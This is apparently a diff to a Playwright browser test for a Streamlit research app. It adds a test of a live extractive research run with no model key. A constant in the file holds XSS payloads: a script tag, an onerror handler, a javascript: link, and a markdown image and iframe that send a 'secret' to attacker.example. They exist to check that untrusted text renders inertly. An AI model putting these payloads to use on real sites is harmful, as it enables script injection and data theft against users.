@@ -1,8 +1,9 @@
 """The app in a real browser: `streamlit run app.py` on a loopback port, driven by headless Chromium (Playwright).
 
-Opens Benchmarks, opens a report, opens a citation and sees its quote (screenshots go to tests/artifacts/), and
-checks that hostile report and quote text renders as text: nothing loads from elsewhere and no script runs.
-Skips only when Chromium or Playwright is not installed (CI installs both).
+Opens Benchmarks, opens a report, opens a citation and sees its quote (screenshots go to tests/artifacts/), checks
+that hostile report and quote text renders as text: nothing loads from elsewhere and no script runs, and runs an
+extractive live research with the access code on a server with no model key. Skips only when Chromium or Playwright
+is not installed (CI installs both).
 """
 from __future__ import annotations
 
@@ -22,6 +23,7 @@ import pytest
 
 from pipeline.core.schema import Finding, Plan, Report, RunResult, Source, SubQuestion
 from pipeline.store.files import save_run_file
+from tests.fakes.search_apis import FakeSearchApi, Hit
 from tests.fakes.web_server import Route, WebServer
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -30,6 +32,12 @@ CHROMIUM = "/usr/bin/chromium"
 CHROMIUM_ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--no-first-run"]
 QUOTE = "Qdrant Cloud pricing starts at 25 dollars per month for the smallest cluster."
+CODE = "browser-access-code-42"
+NO_KEY_SENTENCE = ("No model key is configured on this server, so only the extractive mode — no model, sentences "
+                   "selected by code — can run")
+# The page a live run reads arrives a byte at a time (about 3 s), so the browser sees the run in flight.
+SLOW_PAGE = ("<html><head><title>Qdrant pricing</title></head><body><article><h1>Qdrant pricing</h1>"
+             f"<p>Qdrant is an open-source vector database written in Rust.</p><p>{QUOTE}</p></article></body></html>")
 HOSTILE = ('<script>window.__pwned=1</script> <img src=x onerror="window.__pwned=2"> '
            '![x](http://attacker.example/?q=secret) [click](javascript:alert(1)) '
            '<iframe src="http://attacker.example/frame"></iframe>')
@@ -89,14 +97,22 @@ class App:
 @pytest.fixture(scope="module")
 def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
     tmp = tmp_path_factory.mktemp("browser")
-    with WebServer({"/qdrant": Route.html(f"<html><body><h1>Qdrant</h1><p>Intro.</p><p>{QUOTE}</p></body></html>")}) \
-            as web:
+    slow = Route(headers={"Content-Type": "text/html; charset=utf-8"}, body=SLOW_PAGE.encode(),
+                 drip=3.0 / len(SLOW_PAGE))
+    with WebServer({"/qdrant": Route.html(f"<html><body><h1>Qdrant</h1><p>Intro.</p><p>{QUOTE}</p></body></html>"),
+                    "/slow": slow}) as web, \
+            FakeSearchApi("brave", [Hit(title="Qdrant pricing", url=web.url("/slow"), snippet="pricing")],
+                          api_key="brave-key") as search:
         source_url = web.url("/qdrant")
         save_run_file(tmp / "bench" / "suite", normal_run(source_url))
         save_run_file(tmp / "bench" / "suite", hostile_run(source_url))
         port = _free_port()
-        env = {**os.environ, "RESEARCH_BENCHMARK_DIR": str(tmp / "bench"), "RESEARCH_DB": str(tmp / "state" / "r.db"),
-               "ACCESS_CODE": "", "ACCESS_CODE_SECRET": ""}
+        # Live runs: the access code, no model key, and a live search provider (a local fake) with real fetching.
+        env = {**{k: v for k, v in os.environ.items() if k != "ANTHROPIC_API_KEY"},
+               "RESEARCH_BENCHMARK_DIR": str(tmp / "bench"), "RESEARCH_DB": str(tmp / "state" / "r.db"),
+               "ACCESS_CODE": CODE, "ACCESS_CODE_SECRET": "", "RESEARCH_SEARCH_PROVIDER": "brave",
+               "BRAVE_API_KEY": "brave-key", "RESEARCH_SEARCH_BASE_URL": search.base_url,
+               "RESEARCH_FETCH_ALLOW": web.host_port}
         proc = subprocess.Popen(
             [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port), "--server.address",
              "127.0.0.1", "--server.headless", "true", "--server.fileWatcherType", "none",
@@ -211,3 +227,33 @@ def test_untrusted_content_renders_as_text_loads_nothing_and_runs_nothing(page: 
     assert links and {(u.scheme, u.netloc) for u in links} == {("http", urlsplit(app.source_url).netloc)}
     assert page.evaluate("window.__pwned") is None and dialogs == []
     assert not [u for u in app.outside if "attacker.example" in u] and app.outside == []
+
+
+def test_an_extractive_live_run_with_no_model_key_shows_progress_then_its_report(page: Page, app: App) -> None:
+    ARTIFACTS.mkdir(exist_ok=True)
+    page.goto(app.url + "/live")
+    page.get_by_role("heading", name="Live research").wait_for()
+    page.get_by_label("Access code").fill(CODE)
+    page.get_by_role("button", name="Unlock").click()
+    page.get_by_text(NO_KEY_SENTENCE).wait_for()
+    page.get_by_text("extractive: no model at all").wait_for()
+    assert page.get_by_role("radio").count() == 1  # the only mode this server offers
+    page.get_by_label("Question").fill("What does Qdrant Cloud pricing start at?")
+    page.get_by_role("button", name="Start research").click()
+    page.get_by_role("heading", name="Running").wait_for()
+    page.get_by_text("Searches: 3 of 8").wait_for()
+    page.get_by_text("No model: code selects the sentences").wait_for()
+    assert page.get_by_text("Model calls:").count() == 0 and page.get_by_text("Cost:").count() == 0
+    page.screenshot(path=str(ARTIFACTS / "live-extractive-progress.png"))
+    page.get_by_text("Finished: complete, 1 finding, no model, $0.").wait_for(timeout=60_000)
+    page.screenshot(path=str(ARTIFACTS / "live-extractive-finished.png"))
+    page.get_by_role("link", name="Open in the report view").click()
+    page.wait_for_url("**/report?run=*")
+    page.get_by_text("Extractive · no model").first.wait_for()
+    cite = page.locator('.vb-report [data-cite="F1"]').first
+    cite.click()
+    card = cite.locator(".vb-card")
+    card.wait_for(state="visible")
+    assert QUOTE in card.inner_text() and "Qdrant pricing" in card.inner_text()
+    page.screenshot(path=str(ARTIFACTS / "live-extractive-report.png"))
+    assert app.outside == []
